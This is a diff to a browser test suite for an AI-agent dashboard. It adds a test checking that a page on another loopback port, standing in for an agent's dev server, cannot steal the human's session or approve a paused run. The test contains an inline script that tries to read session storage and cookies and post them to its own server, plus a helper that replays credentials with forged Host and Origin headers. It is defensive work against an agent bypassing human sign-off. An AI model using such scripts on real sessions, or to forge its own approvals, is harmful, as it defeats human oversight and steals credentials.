@@ -3,12 +3,13 @@
 // printed on its terminal, watches runs driven by other processes advance
 // live, sends one back with `revise: <text>` (the text reaches the next
 // agent's prompt), approves it to the end, abandons another run, and a
-// page from another origin cannot act. Screenshots go to
+// page from another origin cannot act — nor can credentials replayed from
+// a page on another loopback port (no cookie exists). Screenshots go to
 // target/browser-tests/ (or $BROWSER_TEST_OUT).
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { copyFileSync, mkdirSync, readFileSync, readdirSync, rmSync, existsSync } from 'node:fs';
-import { createServer } from 'node:http';
+import { createServer, request as httpRequest } from 'node:http';
 import { dirname, join } from 'node:path';
 import { batonBin, playwright, launch, makeRepo, startDashboard, baton, out, ROOT } from './harness.mjs';
 
@@ -330,4 +331,87 @@ test('ended runs whose files left with their branch stay listed, with the branch
   assert.equal(await page.locator('#run-list [data-run*="add-a-greeting-feature-to-the-footer"]').count(), 0, 'not in the checkout any more');
   await shot('10-other-branches.png');
   execFileSync('git', ['checkout', '-q', branch], { cwd: repo });
+});
+
+test('credentials replayed from a page on another loopback port give no session, no CSRF token, no answer', async () => {
+  // A run waiting at its checkpoint; the person's tab is signed in.
+  const r = await baton(bin, repo, ['run', 'Replay the session', '--effort', 'S', '--nopr', '--agent', 'builtin:scripted']);
+  assert.notEqual(r.code, 0);
+  const id = runIds().find((n) => n.includes('replay-the-session'));
+  await page.goto(`${dash.url}/runs/${id}`);
+  await page.locator('[data-testid=session]', { hasText: 'signed in' }).waitFor();
+  await page.locator('[data-testid=question]').waitFor();
+  // The flow set no cookie: the session lives in the tab's sessionStorage,
+  // which only the dashboard's origin (its port included) can read.
+  const jar = await browser.context.cookies();
+  assert.deepEqual(jar, [], `no cookie: ${JSON.stringify(jar)}`);
+  assert.ok(await page.evaluate(() => sessionStorage.getItem('baton-session')), 'the tab keeps its session');
+
+  // The agent's dev server on another loopback port: the person opens its
+  // page in the same browser. It records every request it gets (a cookie
+  // for 127.0.0.1 would arrive here: cookies ignore ports).
+  const seen = [];
+  const evil = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c) => { body += c; });
+    req.on('end', () => {
+      seen.push({ url: req.url, cookie: req.headers.cookie || '', body });
+      res.setHeader('content-type', 'text/html');
+      res.end(`<script>
+        (async () => {
+          const found = { storage: sessionStorage.getItem('baton-session'), local: localStorage.getItem('baton-session'), cookie: document.cookie };
+          try {
+            const r = await fetch(${JSON.stringify(dash.url)} + '/api/session', { credentials: 'include' });
+            found.read = await r.text();
+          } catch (e) { found.read = 'blocked: ' + e.message; }
+          await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
+          window.done = true;
+        })();
+      </script>`);
+    });
+  });
+  await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
+  const evilPage = await browser.context.newPage();
+  await evilPage.goto(`http://127.0.0.1:${evil.address().port}/`);
+  await evilPage.waitForFunction(() => window.done === true);
+  await evilPage.close();
+  evil.close();
+  const report = JSON.parse(seen.find((s) => s.url === '/report').body);
+  assert.equal(report.storage, null, 'another port cannot read the session');
+  assert.equal(report.local, null);
+  assert.equal(report.cookie, '');
+  assert.match(report.read, /^blocked/, `cross-origin reads are blocked: ${report.read}`);
+  const received = seen.map((s) => s.cookie).filter(Boolean);
+  assert.deepEqual(received, [], 'no baton credential reached the other port');
+
+  // The agent replays whatever it has — the browser's cookies, what its
+  // server received — with a forged Host and Origin, from another client.
+  const replay = (method, path, body) => new Promise((ok, fail) => {
+    const { port } = new URL(dash.url);
+    const headers = {
+      Host: `127.0.0.1:${port}`, Origin: dash.url, 'Sec-Fetch-Site': 'same-origin',
+      Cookie: [...jar.map((c) => `${c.name}=${c.value}`), ...received].join('; '),
+    };
+    if (body) { headers['Content-Type'] = 'application/json'; headers['Content-Length'] = Buffer.byteLength(body); }
+    const q = httpRequest({ host: '127.0.0.1', port, path, method, headers }, (res) => {
+      let text = ''; res.on('data', (c) => { text += c; }); res.on('end', () => ok({ status: res.statusCode, text }));
+    });
+    q.on('error', fail);
+    if (body) q.write(body);
+    q.end();
+  });
+  const probe = await replay('GET', '/api/session');
+  const p = JSON.parse(probe.text);
+  assert.equal(p.signedIn, false);
+  assert.equal(p.canAct, false);
+  assert.ok(!p.csrf && !p.eventsTicket, `no CSRF token or ticket: ${probe.text}`);
+  const answer = await replay('POST', `/api/runs/${id}/answer`, JSON.stringify({ question: 'checkpoint-a', answer: 'proceed' }));
+  assert.equal(answer.status, 403, answer.text);
+  assert.equal(state(id).currentPhaseStatus, 'awaiting_human');
+  assert.equal((state(id).answers || []).length, 0);
+
+  // The person's own tab still answers.
+  await page.locator('[data-answer=proceed]').click();
+  await page.locator('[data-testid=question]').waitFor({ state: 'hidden' });
+  assert.deepEqual(state(id).answers.at(-1).by, { who: 'person', channel: 'dashboard' });
 });
